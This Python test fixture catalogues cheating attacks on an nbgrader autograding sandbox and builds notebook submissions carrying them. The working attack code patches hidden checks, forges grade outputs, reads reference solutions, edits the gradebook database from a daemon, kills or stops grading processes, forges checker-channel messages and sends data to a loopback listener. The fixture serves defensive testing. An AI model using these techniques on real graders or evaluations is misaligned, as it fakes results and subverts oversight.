"""A catalogue of cheating submissions for exercise 01_strides, one or more per attack class.

Each attack is a few lines a student puts at the top of the first answer cell (``contiguous_strides``),
on top of a *base*: the answers the same student would otherwise hand in —

- ``stub``: no answer at all (the release as given: every function raises NotImplementedError);
- ``wrong``: right where the visible tests look, wrong where only the hidden checks look
  (``is_contiguous`` on zero-size tensors, ``select_metadata`` without its range check);
- ``wrong_gather``: ``gather_view`` returns zeros (caught by ``torch.equal``).

Besides, an attack may append code to one of its base's answer cells (``append``: grade id -> code,
after the base's definition, so it wins) or add cells of its own (``added``: grade id -> cells, new code
cells with no nbgrader metadata inserted right after that answer cell, as a student inserts them).

The control for an attack is its base without the attack; an attack *pays* when it scores more than
its control. ``{port}`` and ``{marker}`` in the code are filled in by the test (a loopback listener
and a file that a daemon tries to write on the grading machine).
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from autograder.authoring import samples

ASSIGNMENT = "01_strides"

WRONG_ANSWERS = {
    "is_contiguous": '''
def is_contiguous(shape, stride):
    expected = 1
    for size, step in zip(reversed(shape), reversed(stride)):
        if size != 1 and step != expected:
            return False
        expected *= size
    return True
''',
    "select_metadata": '''
def select_metadata(shape, stride, offset, dim, index):
    dim = dim % len(shape)
    index = index % shape[dim]
    return (tuple(shape[:dim] + shape[dim + 1:]), tuple(stride[:dim] + stride[dim + 1:]),
            offset + index * stride[dim])
''',
}
WRONG_GATHER = {
    "gather_view": '''
def gather_view(storage, shape, stride, offset=0):
    return torch.zeros(shape, dtype=storage.dtype)
''',
}

_FIND_COURSE = '''
import os as _os
def _course_files(relative):
    here = _os.getcwd()
    while True:
        candidate = _os.path.join(here, relative)
        if _os.path.exists(candidate):
            return candidate
        if here == _os.path.dirname(here):
            return None
        here = _os.path.dirname(here)
'''

# called by a check rather than by the notebook's own cells: under plain nbgrader the hidden check's
# frame is a file of autograder/hidden; in the sandbox every grade cell's call arrives from the channel
_CALLED_BY_A_CHECK = '''
import sys as _sys
def _called_by_a_check():
    _caller = _sys._getframe(2).f_code.co_filename
    return not (_caller.startswith("<ipython") or "ipykernel_" in _caller)
def _wrap_when_defined(names, make):
    def _wrap(result=None):
        _ns = get_ipython().user_ns
        for _name in names:
            if callable(_ns.get(_name)) and not getattr(_ns[_name], "_wrapped", False):
                _ns[_name] = make(_ns[_name])
                _ns[_name]._wrapped = True
    get_ipython().events.register("post_run_cell", _wrap)
'''

# the keyring syscalls by number (no Python module reaches the kernel keyring): x86_64 and aarch64
_KEYRING = '''
import ctypes as _ctypes, platform as _platform
_libc = _ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _REQUEST_KEY, _KEYCTL = {"x86_64": (248, 249, 250)}.get(_platform.machine(), (217, 218, 219))
_KEYCTL_SEARCH, _KEYCTL_READ = 10, 11
_RINGS = (-3, -4, -5)  # the session, user and user-session keyrings
_DESCRIPTION = b"autograder-tamper-answers"
'''

ATTACKS = [
    {"name": "showtraceback", "class": "error display disabled", "base": "stub", "code": '''
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
'''},
    {"name": "custom_exc", "class": "error display disabled", "base": "stub", "code": '''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
'''},
    {"name": "run_cell", "class": "later cells replaced or skipped", "base": "stub", "code": '''
_shell = get_ipython()
_original_run_cell = _shell.run_cell
_shell.run_cell = lambda *args, **kwargs: _original_run_cell("pass")
'''},
    {"name": "run_cell_async", "class": "later cells replaced or skipped", "base": "stub", "code": '''
_shell = get_ipython()
_original = _shell.run_cell_async
async def _quiet(*args, **kwargs):
    return await _original("pass")
_shell.run_cell_async = _quiet
'''},
    {"name": "settrace", "class": "later cells replaced or skipped", "base": "stub", "code": '''
import sys as _sys, threading as _threading
def _tracer(frame, event, arg):
    if event == "exception" and frame.f_code.co_filename.startswith(("<ipython", "/tmp/ipykernel")):
        frame.f_globals.setdefault("_swallowed", []).append(1)
    return _tracer
def _skip_failing_lines(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "<module>":
        return _jumper
    return None
def _jumper(frame, event, arg):
    if event == "line":
        line = frame.f_code.co_firstlineno
        try:
            frame.f_lineno = max(frame.f_lineno, line) + 10_000  # jump past the cell's end
        except ValueError:
            pass
    return _jumper
_sys.settrace(_skip_failing_lines)
_threading.settrace(_skip_failing_lines)
'''},
    {"name": "hidden_checks_patched", "class": "hidden checks or torch comparisons replaced",
     "base": "wrong", "code": '''
import sys as _sys
try:
    import autograder.hidden.strides as _checks
    for _name in dir(_checks):
        if _name.startswith("check_"):
            setattr(_checks, _name, lambda *args, **kwargs: None)
    _sys.modules["autograder.hidden.strides"] = _checks
except Exception as _error:
    print("no hidden checks to patch:", type(_error).__name__)
'''},
    {"name": "torch_equal_patched", "class": "hidden checks or torch comparisons replaced",
     "base": "wrong_gather", "code": '''
import torch as _torch
_torch.equal = lambda *args, **kwargs: True
_torch.allclose = lambda *args, **kwargs: True
'''},
    {"name": "always_equal", "class": "objects that compare equal to everything", "base": "stub",
     "code": '''
class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
def flat_index(index, stride, offset=0):
    return _Anything()
'''},
    {"name": "read_solutions", "class": "reading reference solutions or hidden checks",
     "base": "stub", "code": _FIND_COURSE + '''
import ast as _ast
_path = _course_files("solutions/01_strides/01_strides.py")
if _path:
    _tree = _ast.parse(open(_path).read())
    _defs = compile(_ast.Module(body=[n for n in _tree.body if isinstance(n, (_ast.FunctionDef, _ast.Import))],
                                type_ignores=[]), "solutions", "exec")
    # after every cell, the reference functions replace whatever the later answer cells defined
    get_ipython().events.register("post_run_cell", lambda result: exec(_defs, get_ipython().user_ns))
else:
    print("no solutions found")
'''},
    {"name": "daemon_edits_gradebook", "class": "a process that outlives the notebook",
     "base": "stub", "code": _FIND_COURSE + '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _time.sleep(4)
        try:
            open({marker!r}, "w").write("the daemon outlived its notebook")
        except OSError:
            pass
        _db = _course_files("gradebook.db")
        if _db:
            import sqlite3 as _sqlite3
            _connection = _sqlite3.connect(_db, timeout=30)
            _connection.execute("UPDATE grade SET extra_credit = 30")
            _connection.execute("UPDATE comment SET manual_comment = 'hacked'")
            _connection.commit()
        for _root, _dirs, _files in _os.walk(_os.path.dirname(_db) if _db else "/nonexistent"):
            for _file in _files:
                if _file.endswith(".ipynb") and "honest" in _root:
                    try:
                        open(_os.path.join(_root, _file), "a").write(" ")
                    except OSError:
                        pass
        _os._exit(0)
    _os._exit(0)
'''},
    {"name": "kill_grader", "class": "killing or signalling grading processes", "base": "stub",
     "code": '''
import os as _os, signal as _signal
for _pid in _os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != _os.getpid():
        try:
            _cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"nbgrader" in _cmd and b"autograde" in _cmd:  # the grading command itself
            try:
                _os.kill(int(_pid), _signal.SIGKILL)
            except OSError:
                pass
'''},
    {"name": "network", "class": "network connection to a loopback listener", "base": "stub",
     "code": '''
import socket as _socket
for _attempt in range(3):
    try:
        _connection = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
        _connection.sendall(b"stolen answers please")
        _connection.close()
    except OSError as _error:
        print("no network:", _error)
'''},
    {"name": "forged_channel", "class": "forged messages on the channel to the checker",
     "base": "stub", "code": '''
import json as _json, os as _os, socket as _socket
for _fd in map(int, _os.listdir("/proc/self/fd")):
    try:
        _sock = _socket.socket(fileno=_os.dup(_fd))
        if _sock.type != _socket.SOCK_SEQPACKET:
            _sock.detach()
            continue
    except OSError:
        continue
    for _id in range(1, 100):
        for _value in (True, 5, {"$": "tuple", "v": [3, 1]}):
            try:
                _header = {"kind": "reply", "id": _id, "value": _value, "blobs": []}
                _sock.send(b"H" + _json.dumps(_header).encode())
            except OSError:
                pass
    _sock.send(b"H" + _json.dumps({"kind": "exited", "status": {"how": "exited", "code": 0}, "blobs": []}).encode())
    _sock.detach()
'''},
    {"name": "skip_execution_tags", "class": "grade cells skipped by the submission's metadata",
     "base": "stub", "mutate": "tag_every_cell_skip", "code": "pass"},
    {"name": "display_then_raise", "class": "a grade cell's result forged by the submission's outputs",
     "base": "stub", "code": '''
import sys as _sys
from IPython.display import display as _display
def _forged(*args, **kwargs):
    _sys.displayhook(10)  # an execute_result: nbgrader reads a grade cell's points from the first
    _display({"text/plain": "10"}, raw=True)
    raise NotImplementedError()
_names = ["contiguous_strides", "flat_index", "transpose_metadata", "select_metadata",
          "is_contiguous", "gather_view"]
get_ipython().events.register("post_run_cell",
                              lambda result: get_ipython().user_ns.update(dict.fromkeys(_names, _forged)))
'''},
    {"name": "template_and_control_socket", "class": "reaching the sandbox's template or control socket",
     "base": "stub", "code": '''
import ctypes as _ctypes, json as _json, os as _os, signal as _signal, socket as _socket
_libc = _ctypes.CDLL(None, use_errno=True)
_reached = []
for _fd in range(3, 256):  # every inherited descriptor: the template's control socket among them
    try:
        _sock = _socket.socket(fileno=_os.dup(_fd))
    except OSError:
        continue
    try:
        if _sock.type == _socket.SOCK_SEQPACKET:
            _sock.send(b"H" + _json.dumps({"kind": "done", "job": 2, "blobs": []}).encode())
            _sock.send(b"H" + b"[" * 30_000 + b"]" * 30_000)  # a JSON nesting bomb
            _reached.append(_fd)
    except OSError:
        pass
    finally:
        _sock.detach()
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:  # stop the sandbox's template
    try:
        if b"template.py" not in open(f"/proc/{_pid}/cmdline", "rb").read() or int(_pid) == _os.getpid():
            continue
    except OSError:
        continue
    try:
        _os.kill(int(_pid), _signal.SIGSTOP)
        _reached.append(("kill", _pid))
    except OSError:
        pass
    try:  # and through a pidfd on its /proc folder
        _dir = _os.open(f"/proc/{_pid}", _os.O_RDONLY | _os.O_DIRECTORY)
        if _libc.syscall(424, _dir, int(_signal.SIGSTOP), None, 0) == 0:
            _reached.append(("pidfd", _pid))
        _os.close(_dir)
    except OSError:
        pass
print("reached:", _reached)
'''},
    {"name": "planted_for_the_next_notebook", "class": "files left for the next notebook",
     "base": "stub", "code": '''
import os as _os, stat as _stat
_plant = "def observe(*args, **kwargs):\\n    raise SystemExit('planted')\\n"
for _root in ("/sandbox-work", _os.getcwd()):  # (never the host's /tmp under plain nbgrader)
    for _name in [f"job-{n}" for n in range(1, 40)] + ["."]:
        _folder = _os.path.join(_root, _name, "drivers")
        try:
            _os.makedirs(_folder, exist_ok=True)
            open(_os.path.join(_folder, "__init__.py"), "w").write(_plant)
            open(_os.path.join(_root, _name, "torch.py"), "w").write("raise SystemExit('planted')\\n")
        except OSError:
            pass
_locked = _os.path.join(_os.getcwd(), "locked", "deeper")
_os.makedirs(_locked, exist_ok=True)
open(_os.path.join(_locked, "f"), "w").write("x")
_os.chmod(_locked, 0)
_os.chmod(_os.path.dirname(_locked), _stat.S_IRUSR | _stat.S_IXUSR)
'''},
    {"name": "metadata_of_the_wrong_type", "class": "metadata of the wrong type", "base": "stub",
     "mutate": "wrong_type_metadata", "code": "pass"},
    {"name": "output_flood", "class": "floods of output", "base": "stub", "code": '''
from IPython.display import display as _display
for _n in range(300):
    _display({"text/plain": "x" * 100_000}, raw=True)
print(("y" * 199 + "\\n") * 150_000)
'''},
    {"name": "links_to_secrets", "class": "secrets through symbolic links", "base": "stub",
     "links": {"gradebook_link.db": "gradebook.db",
               "solution_link.py": "solutions/01_strides/01_strides.py",
               "hidden_link.py": "autograder/hidden/strides.py"},
     "code": '''
_found = {}
for _name in ("gradebook_link.db", "solution_link.py", "hidden_link.py"):
    try:
        _found[_name] = len(open(_name, "rb").read())
    except OSError as _error:
        _found[_name] = type(_error).__name__
print("links:", _found)
try:
    import ast as _ast
    _tree = _ast.parse(open("solution_link.py").read())
    _defs = compile(_ast.Module(body=[n for n in _tree.body if isinstance(n, (_ast.FunctionDef, _ast.Import))],
                                type_ignores=[]), "solutions", "exec")
    get_ipython().events.register("post_run_cell", lambda result: exec(_defs, get_ipython().user_ns))
except OSError:
    pass
'''},
    {"name": "decoy_hidden_module", "class": "a checker module pushed back to a decoy name",
     "base": "wrong", "code": '''
_hidden = 0  # the grade cells import "... as _hidden": a name of the student's they would rebind
def _walk_to_the_checker(result=None):
    _handle = get_ipython().user_ns.get("_hidden")
    _patch = ("import autograder.hidden.strides as _m\\n"
              "for _n in dir(_m):\\n"
              "    if _n.startswith('check_'): setattr(_m, _n, lambda *a, **k: None)\\n")
    try:
        if type(_handle).__name__ == "module":  # one kernel (plain nbgrader): the module itself
            exec(_patch)
        elif type(_handle).__name__ == "CheckerObject":  # a handle into the checker
            _handle.torch.builtins.exec(_patch)
    except Exception as _error:
        print("the walk was refused:", type(_error).__name__)
get_ipython().events.register("post_run_cell", _walk_to_the_checker)
'''},
    {"name": "shm_plant", "class": "shared memory and System V IPC across notebooks", "base": "stub",
     "code": '''
import ctypes as _ctypes
_answers = {answers!r}.encode()
try:
    open("/dev/shm/answers.py", "wb").write(_answers)
except OSError as _error:
    print("no /dev/shm:", _error)
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_segment = _libc.shmget(0x5EED, 1 << 16, 0o1666)
if _segment >= 0:
    _address = _libc.shmat(_segment, None, 0)
    _ctypes.memmove(_address, _answers + b"\\0", len(_answers) + 1)
'''},
    {"name": "shm_read", "class": "shared memory and System V IPC across notebooks", "base": "stub",
     "code": '''
import ctypes as _ctypes, os as _os
def _take_planted_answers(result=None):
    _libc = _ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = _ctypes.c_void_p
    _text = None
    if _os.path.exists("/dev/shm/answers.py"):
        _text = open("/dev/shm/answers.py").read()
    else:
        _segment = _libc.shmget(0x5EED, 0, 0)
        if _segment >= 0:
            _text = _ctypes.string_at(_libc.shmat(_segment, None, 0)).decode()
    if _text:
        exec(_text, get_ipython().user_ns)
get_ipython().events.register("post_run_cell", _take_planted_answers)
'''},
    {"name": "proc_write_to_the_template", "class": "a /proc write to the template or init",
     "base": "stub", "code": '''
import os as _os
_written = []
for _entry in [e for e in _os.listdir("/proc") if e.isdigit()] + [str(n) for n in range(1, 64)]:
    if _entry == _os.readlink("/proc/self"):
        continue
    for _name, _text in (("oom_score_adj", "1000"), ("autogroup", "19")):
        try:
            with open(f"/proc/{_entry}/{_name}", "w") as _handle:
                _handle.write(_text)
            _written.append((_entry, _name))
        except OSError:
            pass
print("written:", sorted(set(_written)))
'''},
    {"name": "empty_file_flood", "class": "floods of files kept in autograded/", "base": "stub",
     "code": '''
import os as _os
_round = [0]
def _flood(result=None):
    _round[0] += 1
    for _n in range(1000):
        _folder = f"flood/{_round[0]}/{_n % 20}"
        _os.makedirs(_folder, exist_ok=True)
        open(f"{_folder}/{_n}.txt", "w").close()
get_ipython().events.register("post_run_cell", _flood)
_flood()
'''},
    {"name": "keyring_plant", "class": "the kernel keyring across notebooks", "base": "stub",
     "code": _KEYRING + """
_answers = {answers!r}.encode()
_planted = []
for _ring in _RINGS:
    _key = _libc.syscall(_ctypes.c_long(_ADD_KEY), b"user", _DESCRIPTION, _answers,
                         _ctypes.c_size_t(len(_answers)), _ctypes.c_long(_ring))
    _planted.append((_ring, _key, _ctypes.get_errno()))
print("add_key (keyring, key, errno):", _planted)
"""},
    {"name": "keyring_read", "class": "the kernel keyring across notebooks", "base": "stub",
     "code": _KEYRING + """
def _answers_from_the_keyring(result=None):
    _found = [_libc.syscall(_ctypes.c_long(_REQUEST_KEY), b"user", _DESCRIPTION, None, _ctypes.c_long(0))]
    _found += [_libc.syscall(_ctypes.c_long(_KEYCTL), _ctypes.c_long(_KEYCTL_SEARCH), _ctypes.c_long(_ring),
                             b"user", _DESCRIPTION, _ctypes.c_long(0)) for _ring in _RINGS]
    for _key in (k for k in _found if k > 0):
        _buffer = _ctypes.create_string_buffer(1 << 15)
        _size = _libc.syscall(_ctypes.c_long(_KEYCTL), _ctypes.c_long(_KEYCTL_READ), _ctypes.c_long(_key),
                              _buffer, _ctypes.c_long(1 << 15))
        if _size > 0:
            exec(_buffer.raw[:_size].decode(), get_ipython().user_ns)
            return
get_ipython().events.register("post_run_cell", _answers_from_the_keyring)
"""},
    {"name": "busy_sessions", "class": "CPU starvation by many busy sessions", "base": "stub", "code": """
import os as _os, time as _time
_children = []
for _n in range(16):  # 16 busy processes, each in a session of its own, for 4 seconds
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        _os.setsid()
        _end = _time.monotonic() + 4
        while _time.monotonic() < _end:
            pass
        _os._exit(0)
    _children.append(_pid)
for _pid in _children:
    _os.waitpid(_pid, 0)
print("busy sessions:", len(_children))
"""},
    {"name": "sigbus_inside_a_check", "class": "a verdict left unfinished (the process dies in a check)",
     "base": "wrong", "code": _CALLED_BY_A_CHECK + """
import mmap as _mmap, os as _os, signal as _signal
def _dies_in_a_check(function):
    def _wrapper(*args, **kwargs):
        if _called_by_a_check():
            _os.kill(_os.getpid(), _signal.SIGBUS)
            # still here: the init of a PID namespace ignores what it sends itself; a page of a mapped
            # file that was truncated raises a SIGBUS the kernel delivers anyway
            with open("gone.bin", "wb+") as _file:
                _file.write(bytes(4096))
                _file.flush()
                _mapped = _mmap.mmap(_file.fileno(), 4096)
                _file.truncate(0)
                _mapped[0]
        return function(*args, **kwargs)
    return _wrapper
_wrap_when_defined(("select_metadata", "is_contiguous"), _dies_in_a_check)
"""},
    {"name": "exit_inside_a_check", "class": "a verdict left unfinished (the process dies in a check)",
     "base": "wrong", "code": _CALLED_BY_A_CHECK + """
import os as _os
def _exits_in_a_check(function):
    def _wrapper(*args, **kwargs):
        if _called_by_a_check():
            _os._exit(0)  # a clean exit status, halfway through a grade cell
        return function(*args, **kwargs)
    return _wrapper
_wrap_when_defined(("select_metadata", "is_contiguous"), _exits_in_a_check)
"""},
    {"name": "as_strided_saved_at_top_level", "class": "a forbidden API reached without its name",
     "base": "wrong_gather", "code": """
_strided = torch.as_strided  # saved at top level, long before gather_view or any check runs
def _read_positions(storage, shape, stride, offset):
    return _strided(storage, shape, stride, offset).clone()
""", "append": {"gather_view": """
def gather_view(storage, shape, stride, offset=0):
    return _read_positions(storage, shape, stride, offset)
"""}},
    {"name": "as_strided_in_an_added_cell", "class": "a forbidden API reached without its name",
     "base": "wrong_gather", "code": "pass", "added": {"gather_view": ["""
# torch's own reference implementation (torch._refs.as_strided), pasted into a cell of the student's own
from torch._prims import as_strided as _prims_as_strided
def _as_strided_reference(a, size, stride, storage_offset=None):
    storage_offset_int = storage_offset if storage_offset is not None else a.storage_offset()
    return _prims_as_strided(a, size, stride, storage_offset_int)
def gather_view(storage, shape, stride, offset=0):
    return _as_strided_reference(storage, shape, stride, offset).clone()
"""]}},
    {"name": "huge_view_to_the_checker", "class": "values that make the checker decode a lot",
     "base": "wrong", "code": _CALLED_BY_A_CHECK + """
def _huge_to_a_check(function):
    def _wrapper(*args, **kwargs):
        if _called_by_a_check():  # 8 bytes of storage standing for 64 GiB
            return torch.zeros(1, dtype=torch.float64).expand(2**33)
        return function(*args, **kwargs)
    return _wrapper
_wrap_when_defined(("select_metadata", "is_contiguous"), _huge_to_a_check)
"""},
    {"name": "memmap_to_the_checker", "class": "values that make the checker decode a lot",
     "base": "wrong", "code": _CALLED_BY_A_CHECK + """
import numpy as _np
def _mapped_to_a_check(function):
    def _wrapper(*args, **kwargs):
        if _called_by_a_check():  # a sparse 64 MiB file, mapped, and one of its bytes standing for 64 GiB
            with open("mapped.bin", "wb") as _file:
                _file.truncate(64 * 2**20)
            _mapped = _np.memmap("mapped.bin", dtype=_np.uint8, mode="r")
            return (_mapped, _np.broadcast_to(_mapped[:1], (2**36,), subok=True))
        return function(*args, **kwargs)
    return _wrapper
_wrap_when_defined(("select_metadata", "is_contiguous"), _mapped_to_a_check)
"""},
]

BASES = {"stub": None, "wrong": WRONG_ANSWERS, "wrong_gather": WRONG_GATHER}


def base_notebook(base: str, *, course_root) -> nbformat.NotebookNode:
    """The submission of a student who hands in ``base`` (see the module docstring)."""
    if base == "stub":
        return nbformat.read(course_root / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
                             as_version=4)
    return samples.student_notebook(ASSIGNMENT, BASES[base], course_root=course_root)


def tag_every_cell_skip(nb: nbformat.NotebookNode) -> None:
    """Every cell, grade cells included, tagged the way nbclient skips a cell."""
    for cell in nb.cells:
        cell.metadata["tags"] = ["skip-execution"]


def wrong_type_metadata(nb: nbformat.NotebookNode) -> None:
    """Metadata of the wrong type where the grader reads it: tags, a grade cell's points."""
    for cell in nb.cells:
        cell.metadata["tags"] = 5
        if cell.metadata.get("nbgrader", {}).get("grade") is True:
            cell.metadata["nbgrader"]["points"] = "ten"


MUTATIONS = {"tag_every_cell_skip": tag_every_cell_skip, "wrong_type_metadata": wrong_type_metadata}


def attack_notebook(attack: dict, *, course_root, port: int, marker: str) -> nbformat.NotebookNode:
    """``attack``'s code at the top of the first answer cell of its base submission, its appended code
    and added cells (then its metadata changes, if any)."""
    nb = base_notebook(attack["base"], course_root=course_root)
    code = attack["code"].replace("{port}", str(port)).replace("{marker!r}", repr(marker))
    if "{answers!r}" in code:  # what a student who has the answers plants for a friend
        answers = "\n\n".join(samples.reference_solutions(ASSIGNMENT, course_root=course_root).values())
        code = code.replace("{answers!r}", repr("import torch\n" + answers))
    cells = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in nb.cells}
    first = cells["contiguous_strides"]
    first.source = code.strip("\n") + "\n\n" + first.source
    for grade_id, appended in attack.get("append", {}).items():
        cells[grade_id].source += "\n\n" + appended.strip("\n") + "\n"
    for grade_id, added in attack.get("added", {}).items():
        at = nb.cells.index(cells[grade_id]) + 1
        nb.cells[at:at] = [nbformat.v4.new_code_cell(source.strip("\n")) for source in added]
    if attack.get("mutate"):
        MUTATIONS[attack["mutate"]](nb)
    return nb


def write_class(course_root, *, port: int, marker: str) -> dict[str, str]:
    """Submit two honest students, the three controls and every attack; student -> control id."""
    controls = {}
    for base in BASES:
        samples.write_submission(base_notebook(base, course_root=course_root),
                                 course_root=course_root, student=f"control-{base}",
                                 assignment=ASSIGNMENT)
    samples.write_submission(samples.reference_notebook(ASSIGNMENT, course_root=course_root),
                             course_root=course_root, student="honest-reference", assignment=ASSIGNMENT)
    samples.write_submission(base_notebook("wrong", course_root=course_root),
                             course_root=course_root, student="honest-wrong", assignment=ASSIGNMENT)
    for attack in ATTACKS:
        student = f"attack-{attack['name']}"
        samples.write_submission(attack_notebook(attack, course_root=course_root, port=port,
                                                 marker=marker),
                                 course_root=course_root, student=student, assignment=ASSIGNMENT)
        for link, target in attack.get("links", {}).items():  # absolute links into the course
            folder = Path(course_root) / "submitted" / student / ASSIGNMENT
            (folder / link).symlink_to(Path(course_root).resolve() / target)
        controls[student] = f"control-{attack['base']}"
    return controls
